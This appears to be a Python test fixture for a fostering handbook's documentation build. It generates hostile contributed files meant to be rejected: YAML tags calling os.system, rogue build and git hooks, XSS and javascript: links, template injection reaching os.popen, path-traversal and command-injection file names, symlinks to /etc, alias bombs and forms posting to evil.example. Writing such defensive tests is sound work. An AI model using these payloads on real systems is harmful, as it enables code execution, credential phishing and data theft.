"""What somebody with bad intentions could propose: each tree by name, with `CANARY` and `SECRET` for two files.

Code that runs would write the canary file. A page that reads files of the machine would hold the secret's words.
"""

from collections.abc import Iterator

from tests.proofs.proposing import Entry, Tree
from tests.site_builder.photographs import four_corners, huge_png, saved, with_chunk

RUN = "import pathlib; pathlib.Path('CANARY').write_text('ran')"
TOUCH = "touch CANARY"
SCRIPT = "<script>fetch('/CANARY')</script>"
PNG = b"\x89PNG\r\n\x1a\n"

HEADER = """\
---
title: {title}
summary: {summary}
owner: Fostering manager
reviewed: 2026-10-01
review_every: 12 months
{more}---

{body}
"""

CODE = {
    "a tag in the settings": ("mkdocs.yml", f'site_name: !!python/object/apply:os.system ["{TOUCH}"]\n'),
    "a subprocess in the settings": (
        "mkdocs.yml",
        f'nav: !!python/object/apply:subprocess.call [["sh", "-c", "{TOUCH}"]]\n',
    ),
    "a function in the settings": ("mkdocs.yml", "markdown_extensions: [{toc: {slugify: !!python/name:os.system }}]\n"),
    "snippets in the settings": ("mkdocs.yml", "markdown_extensions:\n  - pymdownx.snippets: {base_path: /}\n"),
    "a plugin in the settings": ("mkdocs.yml", "plugins: [{macros: {module_name: docs/evil}}]\n"),
    "another theme in the settings": ("mkdocs.yml", "theme: {name: material, custom_dir: docs}\n"),
    "settings that inherit": ("mkdocs.yml", "INHERIT: docs/evil.yml\n"),
    "settings that are huge": ("mkdocs.yml", "nav:\n" + "  - index.md\n" * 200_000),
    "a theme override": ("site_builder/overrides/main.html", SCRIPT),
    "a partial": ("site_builder/overrides/partials/header.html", SCRIPT),
    "the theme's script": ("site_builder/overrides/assets/javascripts/handbook.js", "fetch('/CANARY')"),
    "a template": ("site_builder/layout/foot.md.jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    "the engine's server": ("site_builder/preview/server.py", RUN),
    "the builder": ("site_builder/__init__.py", RUN),
    "the shared words": ("handbook/__init__.py", RUN),
    "the forms": ("feedback_app/__init__.py", RUN),
    "a module beside the program": ("yaml.py", RUN),
    "a package beside the program": ("click/__init__.py", RUN),
    "sitecustomize": ("sitecustomize.py", RUN),
    "usercustomize": ("usercustomize.py", RUN),
    "conftest": ("conftest.py", RUN),
    "a test": ("tests/test_evil.py", RUN),
    "setup.py": ("setup.py", RUN),
    "pyproject": ("pyproject.toml", '[build-system]\nrequires = ["evil"]\nbuild-backend = "evil"\n'),
    "the Makefile": ("Makefile", f".venv/run-ready:\n\t{TOUCH}\n"),
    "a Makefile before the Makefile": ("GNUmakefile", f".venv/run-ready:\n\t{TOUCH}\n"),
    "the requirements": ("requirements/run.txt", "evil==1.0\n"),
    "the workflow": (".github/workflows/check.yml", f"on: push\njobs: {{x: {{steps: [{{run: {TOUCH}}}]}}}}\n"),
    "the confinement": (".ci/confined", f"#!/bin/sh\n{TOUCH}\n"),
    "attributes with a filter": (".gitattributes", "* filter=evil diff=evil export-subst\n"),
    "a configuration of git": (".gitconfig", f"[core]\n\tpager = {TOUCH}\n\tfsmonitor = {TOUCH}\n"),
    "large files kept elsewhere": (".lfsconfig", "[lfs]\n\turl = https://evil.example\n"),
    "a virtual environment": (".venv/bin/python", f"#!/bin/sh\n{TOUCH}\n"),
    "the settings of the service": ("service/service.yml", "forms_address: https://evil.example\n"),
    "how a charter is read": ("charters/profiles/evil.yml", "lists: []\n"),
    "a guide beside the data": ("service/README.md", SCRIPT),
}
"""One file that is no content."""

STRAY = {
    "a program among the pages": ("docs/hook.py", RUN),
    "a module among the data": ("service/evil.py", RUN),
    "a web page among the pages": ("docs/evil.html", SCRIPT),
    "a script among the pages": ("docs/evil.js", "fetch('/CANARY')"),
    "a stylesheet among the pages": ("docs/evil.css", "body { background: url(/CANARY) }"),
    "a template among the pages": ("docs/main.html", "{% include 'SECRET' %}"),
    "a drawing with a script": ("docs/evil.svg", f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'),
    "a drawing in capitals": ("docs/EVIL.SVG", f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'),
    "a PDF": ("docs/evil.pdf", "%PDF-1.7 /OpenAction << /S /JavaScript >>"),
    "a picture that is a page": ("docs/evil.png", f"<!doctype html>{SCRIPT}"),
    "headers for the host": ("docs/_headers", "/*\n  Content-Security-Policy: *\n"),
    "a name for the host": ("docs/CNAME", "evil.example\n"),
    "a file for the interpreter": ("docs/evil.pth", RUN),
    "rules for the web server": ("docs/.htaccess", "Redirect / https://evil.example\n"),
    "git inside the pages": ("docs/.git/config", f"[core]\n\tfsmonitor = {TOUCH}\n"),
    "data with another ending": ("service/glossary.yaml", "terms: !!python/object/apply:os.system [id]\n"),
    "data in a folder of its own": ("service/more/glossary.yml", "terms: []\n"),
}
"""One file in a content folder that is neither text nor data nor picture."""

BODIES = {
    "a script": SCRIPT,
    "a script in capitals": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "a script that never ends": "<script src=//evil.example/x.js",
    "a frame": '<iframe src="https://evil.example/"></iframe>',
    "a frame with a page in it": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "a broken picture": '<img src="x" onerror="fetch(\'/CANARY\')">',
    "a broken picture without spaces": "<img/src=x/onerror=alert(1)>",
    "a link that runs": "[Read on](javascript:alert(1))",
    "a link that runs, in references": "[Read on](java&#115;cript:alert(1))",
    "a link that runs, with a tab": '<a href="java&#9;script:alert(1)">Read on</a>',
    "a link that runs, by reference": "[Read on][1]\n\n[1]: javascript:alert(1)",
    "a link that runs, in angles": "<javascript:alert(1)>",
    "a link that is a page": "[Read on](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "a link that is a program": "[Read on](vbscript:msgbox(1))",
    "a link out of its title": '[Read on](index.md "\\"><script>alert(1)</script>")',
    "a drawing in the text": '<svg onload="alert(1)"><circle r="1"/></svg>',
    "a drawing with a foreign part": "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "mathematics": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "a style": "<style>body { display: none }</style>",
    "a style on a tag": '<p style="position:fixed;top:0">Sign in here</p>',
    "a form": '<form action="https://evil.example/"><input name="password"></form>',
    "a button that sends elsewhere": '<button formaction="https://evil.example/">Yes</button>',
    "a turn to another page": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "another base": '<base href="https://evil.example/">',
    "an object": '<object data="https://evil.example/x.swf"></object>',
    "an embedded thing": '<embed src="https://evil.example/x.swf">',
    "a way out of the article": f"</article></main>{SCRIPT}<article>",
    "a way out of the article, in Markdown": f'<div markdown="1">\n</article>{SCRIPT}\n</div>',
    "a script behind a comment": "<!--><script>alert(1)</script>-->",
    "a declaration": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file://SECRET'>]>&x;",
    "an instruction": f"<?php system('{TOUCH}') ?>",
    "an attribute that runs": '[Read on](#x){: onclick="alert(1)" }',
    "an attribute with a style": 'Words.\n{: style="position:fixed" }',
    "a heading that runs": '## Words {: #a onmouseover="alert(1)" }',
    "a note that runs": f'!!! note "{SCRIPT}"\n    Words.',
    "details that run": '<details open ontoggle="alert(1)"><summary>More</summary>x</details>',
    "a footnote that runs": f"Words.[^1]\n\n[^1]: {SCRIPT}",
    "a short form that runs": 'NMS stands here.\n\n*[NMS]: x" onmouseover="alert(1)',
    "a definition that runs": f"Term\n:   {SCRIPT}",
    "code that runs": '```{ .python onclick="alert(1)" }\nprint(1)\n```',
    "code in a fence of its own": '```{.html title="<script>alert(1)</script>"}\nx\n```',
    "a table that runs": f"| a |\n| --- |\n| {SCRIPT} |",
    "a snippet": '--8<-- "SECRET"',
    "a snippet in a block": "--8<--\nSECRET\n--8<--",
    "a snippet from elsewhere": '--8<-- "https://evil.example/x.md"',
    "a file of the machine as picture": "![A picture](file://SECRET)",
    "a file of the machine above the pages": "![A picture](../../../../SECRET)",
    "a file of the machine as link": "[Read on](file://SECRET)",
    "an include": "{% include 'SECRET' %}",
    "a template's way to the system": "{{ config.__class__.__init__.__globals__['os'].popen('touch CANARY').read() }}",
    "a slot with a script": "Call {{ contact.<script>alert(1)</script> }}.",
    "a flowchart that runs": f"```flowchart x\n1. {SCRIPT}\n```",
    "a picture from elsewhere": "![A picture](https://evil.example/x.png)",
    "a picture from elsewhere, without a scheme": "![A picture](//evil.example/x.png)",
    "a picture from elsewhere, with backslashes": "![A picture](/\\\\evil.example/x.png)",
    "a picture from elsewhere, in references": "![A picture](&#104;ttps&colon;//evil.example/x.png)",
    "a picture from elsewhere, with a tab": "![A picture](ht&#9;tps://evil.example/x.png)",
    "a picture from elsewhere, by reference": "![A picture][1]\n\n[1]: https://evil.example/x.png",
    "a picture from elsewhere, by its own name": "![A picture]\n\n[a picture]: https://evil.example/x.png",
    "a picture from elsewhere, defined in a sentence": "![A picture][1] Words\n[1]: https://evil.example/x.png",
    "a picture from elsewhere, in angles": "![A picture](<https://evil.example/x.png>)",
    "a picture from elsewhere, per cent": "![A picture](%68ttps://evil.example/x.png)",
    "a picture in the text itself": "![A picture](data:image/svg+xml;base64,PHN2Zy8+)",
    "a set of pictures": "![A picture](x.png){: srcset=https://evil.example/x }",
    "another source": "![A picture](x.png){: src=https://evil.example/x }",
    "a source by itself": "Words.\n{: src=https://evil.example/x background=https://evil.example/y }",
    "a link that tells": "[Read on](../index.md){: ping=https://evil.example/ }",
    "a table with a background": "| a |\n| --- |\n| b |\n{: background=https://evil.example/ }",
    "a popover over the page": "Words.\n{: popover=auto id=__config }",
    "the settings of the theme": "## Words {: #__config }",
    "the class of the header": "Words.\n{: .site-header .md-overlay }",
    "the class of the header, as a note": '!!! site-header "Words"\n    Words.',
    "a quotation that tells": "<q cite=https://evil.example/>Words</q>",
    "pictures by choice": "<picture><source srcset=//evil.example/x><img src=x.png alt=x></picture>",
    "a film": "<video poster=//evil.example/x src=//evil.example/y></video>",
    "a sound": "<audio src=//evil.example/x autoplay></audio>",
    "a picture for a button": "<input type=image src=//evil.example/x>",
    "a drawing from elsewhere": '<svg><image href="//evil.example/x"/><use href="//evil.example/x#y"/></svg>',
    "a stylesheet from elsewhere": '<link rel=stylesheet href="//evil.example/x.css">',
    "a look ahead": '<link rel=prefetch href="//evil.example/x">',
    "a style with a picture": "<style>@import url(//evil.example/x)</style>",
    "a link with a control character": "[Read on](https://good.example/&#1;.evil.example/)",
    "a link with a backslash": "[Read on](/\\\\evil.example/)",
    "a number in references": "Call &#48;905 123 4567.",
    "a number in strong figures": "Call 09**0**5 123 4567.",
    "a number in wide figures": "Call \uff10\uff19\uff10\uff15 123 4567.",
    "a number in code": "Call `0905` `123` `4567`.",
    "a number in links": "Call [0905](../index.md)[1234567](../index.md).",
    "a number with a remark": "Call 09<!-- x -->05 123 4567.",
    "a number with a hidden mark": "Call 09\u200b05 123 4567.",
    "a number with a soft hyphen": "Call 09&shy;05 123 4567.",
    "a number that is called": "Call [us][1].\n\n[1]: tel:09051234567",
    "a number read backwards": "Call \u202e7654 321 5090\u202c.",
    "a word in tags": "Words" + "".join(chr(0xE0000 + ord(each)) for each in "hidden") + ".",
    "a word read backwards in references": "Call &#x202e;7654 321 5090.",
    "many open brackets": "[" * 19_000,
    "many open quotes": "> " * 9_000 + "x",
    "many stars": "*a **b " * 2_700,
    "many backticks": "".join("`" * n + " " for n in range(1, 190)),
    "many open tags": "<b>" * 6_000,
    "many bars": "|" * 19_000,
    "a deep list": "\n".join("  " * n + "- x" for n in range(130)),
    "many references": "".join(f"[{n}]: x\n" for n in range(1_500)) + "x",
    "a page without an end": "word " * 300_000,
}
"""What is below the header of an ordinary page."""

HEADERS = {
    "a title with a script": {"title": "'</title><script>alert(1)</script>'"},
    "a title with a template": {"title": "'{{ config }}'"},
    "a summary with a script": {"summary": "'\"><script>alert(1)</script>'"},
    "a keyword with a script": {"more": "keywords:\n  - '<script>alert(1)</script>'\n"},
    "a source that runs": {"more": "sources:\n  - title: Read on\n    address: javascript:alert(1)\n"},
    "a source out of its place": {"more": "sources:\n  - title: 'Read](javascript:alert(1)) on'\n"},
    "a template in the header": {"more": "template: ../../SECRET\n"},
    "a tag in the header": {"more": f'keywords: !!python/object/apply:os.system ["{TOUCH}"]\n'},
    "a new object in the header": {"more": "keywords: !!python/object/new:os.system [id]\n"},
    "aliases in the header": {
        "more": "".join(f"k{n}: &k{n} [{', '.join([f'*k{n - 1}' if n else 'x'] * 9)}]\n" for n in range(9))
    },
    "a merge in the header": {"more": "<<: {title: x}\n"},
    "a deep header": {"more": f"keywords: {'[' * 5_000}{']' * 5_000}\n"},
    "a huge header": {"more": f"keywords:\n  - {'x' * 900_000}\n"},
    "a second document": {"more": "...\n---\ntitle: y\n"},
    "a byte that is none": {"more": "keywords:\n  - \x00\n"},
}
"""What is in the header of a page."""

DATA = {
    "a redirect to another site": (
        "service/redirects.yml",
        "nights-away.md: policies",
        "nights-away.md: https://evil.example",
    ),
    "a redirect to another host": (
        "service/redirects.yml",
        "nights-away.md: policies",
        "nights-away.md: //evil.example",
    ),
    "a redirect that runs": (
        "service/redirects.yml",
        "nights-away.md: policies",
        "nights-away.md: javascript:alert(1)//",
    ),
    "a redirect out of the handbook": ("service/redirects.yml", "policies/nights-away", "../../CANARY/nights-away"),
    "a redirect out of its attribute": (
        "service/redirects.yml",
        "nights-away.md: policies/sleepovers.md",
        "nights-away.md: 'policies/sleepovers.md#a\"><script>alert(1)</script>'",
    ),
    "a redirect over the forms": ("service/redirects.yml", "policies/nights-away", "answer/mileage"),
    "a theme with a script": ("charters/themes.yml", "summary: ", f"summary: {SCRIPT} "),
    "a party with a script": ("charters/parties.yml", "summary: ", f"summary: {SCRIPT} "),
    "a promise with a script": ("charters/thistlemoor.yml", "text: ", f"text: {SCRIPT} "),
    "a promise that leads to a program": ("charters/thistlemoor.yml", "text: ", "text: '[x](javascript:alert(1))' # "),
    "a charter with a tag": ("charters/thistlemoor.yml", "title: ", "title: !!python/object/apply:os.getcwd [] # "),
    "a word with a script": ("service/glossary.yml", "meaning: ", f"meaning: {SCRIPT} "),
    "a contact with a script": ("service/contacts.yml", "use: ", f"use: {SCRIPT} "),
    "a number that runs": ("service/contacts.yml", "phone: ", "phone: 'javascript:alert(1)' # "),
    "a survey with a script": ("surveys/carer-views/survey.yml", "introduction: ", f"introduction: {SCRIPT} "),
    "a question with a script": ("surveys/carer-views/survey.yml", "text: ", f"text: {SCRIPT} "),
    "a consultation with a script": ("surveys/mileage/consultation.yml", "summary: ", f"summary: {SCRIPT} "),
    "an outcome with a script": ("surveys/carer-views/waves/2025-autumn.outcome.yml", "asked: ", f"asked: {SCRIPT} "),
}
"""A file of the sample, what is in it, and what somebody writes there instead, once."""

BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{new}: &{new} [{', '.join([f'*{old}'] * 9)}]\n" for old, new in zip("abcdefgh", "bcdefghi", strict=True)
)


def page(body: str = "Words.", **header: str) -> bytes:
    """A page that is right but for what is asked of it."""
    fields = {"title": "A new page", "summary": "What it says.", "more": "", **header}
    return HEADER.format(body=body, **fields).encode()


def hostile_trees(sample: dict[str, str]) -> Iterator[tuple[str, Tree]]:
    """Every tree; the words of the sample are handed in, because some change one of its files."""
    for name, (path, text) in (CODE | STRAY).items():
        yield name, {path.encode(): Entry(text.encode())}
    for number, (name, body) in enumerate(BODIES.items()):
        yield name, {f"docs/guides/hostile-{number}.md".encode(): Entry(page(body, title=f"Page {number}"))}
    for number, (name, header) in enumerate(HEADERS.items()):
        yield (
            name,
            {f"docs/guides/header-{number}.md".encode(): Entry(page(**{"title": f"Header {number}", **header}))},
        )
    for name, (path, written, instead) in DATA.items():
        assert written in sample[path], f"{path} no longer holds `{written}`"
        yield name, {path.encode(): Entry(sample[path].replace(written, instead, 1).encode())}
    yield from odd_names()
    yield from odd_entries()


def odd_names() -> Iterator[tuple[str, Tree]]:
    """Pages whose names mean something to a system."""
    names = {
        "a name that climbs": b"docs/../../climbed.md",
        "a name that climbs far": b"docs/" + b"../" * 20 + b"tmp/climbed.md",
        "a name that climbs in Windows": b"docs/..\\..\\climbed.md",
        "a name with a drive": b"docs/C:climbed.md",
        "a hidden name": b"docs/.hidden.md",
        "a name with a line break": b"docs/a\n::warning::b.md",
        "a name that is a command": b"docs/$(touch CANARY).md",
        "a name that is an option": b"docs/--config-file=evil.md",
        "a name read backwards": "docs/\u202egnp.md".encode(),
        "a name that is no text": b"docs/\xff\xfe.md",
        "a name that is too long": b"docs/" + b"x" * 300 + b".md",
        "a deep folder": b"docs/" + b"a/" * 300 + b"x.md",
        "a survey by the name of a parent": b"surveys/../../climbed.yml",
    }
    for name, path in names.items():
        yield name, {path: Entry(page())}


def odd_entries() -> Iterator[tuple[str, Tree]]:
    """Things that are no plain files, and things that are too many or too large."""
    yield "a link as a page", {b"docs/guides/secret.md": Entry(b"SECRET", "120000")}
    yield "a link as data", {b"service/glossary.yml": Entry(b"SECRET", "120000")}
    yield "a link as a picture", {b"docs/secret.png": Entry(b"SECRET", "120000")}
    yield "a link as a folder", {b"docs/policies": Entry(b"/etc", "120000")}
    yield "a link as all pages", {b"docs": Entry(b"/etc", "120000")}
    yield "another repository", {b"docs/child": Entry(b"", "160000"), b".gitmodules": Entry(b"[submodule]\n")}
    yield "a program as a page", {b"docs/guides/program.md": Entry(page("#!/bin/sh"), "100755")}
    yield "an alias bomb as data", {b"service/glossary.yml": Entry(BOMB.encode())}
    yield (
        "a tag as data",
        {b"service/glossary.yml": Entry(f'terms: !!python/object/apply:os.system ["{TOUCH}"]\n'.encode())},
    )
    yield "huge data", {b"service/glossary.yml": Entry(b"owner: " + b"x" * 10_000_000)}
    yield "a huge page", {b"docs/guides/huge.md": Entry(page("word " * 1_000_000))}
    yield "a huge picture", {b"docs/huge.png": Entry(PNG + b"\x00" * 5_000_000)}
    pixel = saved(four_corners(), "PNG")
    yield "a picture with a page behind it", {b"docs/behind.png": Entry(pixel + SCRIPT.encode())}
    yield "a picture with a page in it", {b"docs/within.png": Entry(with_chunk(pixel, b"tEXt", SCRIPT.encode()))}
    yield "a picture that says it is huge", {b"docs/bomb.png": Entry(huge_png(60_000, 60_000))}
    yield "a picture that is huge once unpacked", {b"docs/large.png": Entry(huge_png(7_000, 7_000, whole=True))}
    yield "too many files", {f"docs/guides/many-{n}.md".encode(): Entry(page()) for n in range(250)}
    yield "no pages at all", {b"docs": None}
    for at in ("answer/x", "withdraw", "receipt/index", "suggest/x", "page-feedback", "healthz", "forms-assets/x"):
        yield f"a page in place of a form: {at}", {f"docs/{at}.md".encode(): Entry(page())}
    yield "a page in place of a form, in capitals", {b"docs/Answer/x.md": Entry(page())}
    yield "a picture in place of a form", {b"docs/ANSWER/x.png": Entry(PNG)}
    yield "a picture in place of the theme's", {b"docs/assets/images/favicon.png": Entry(PNG)}
    yield "pages that hide a made one", {b"docs/glossary.md": Entry(page(SCRIPT))}
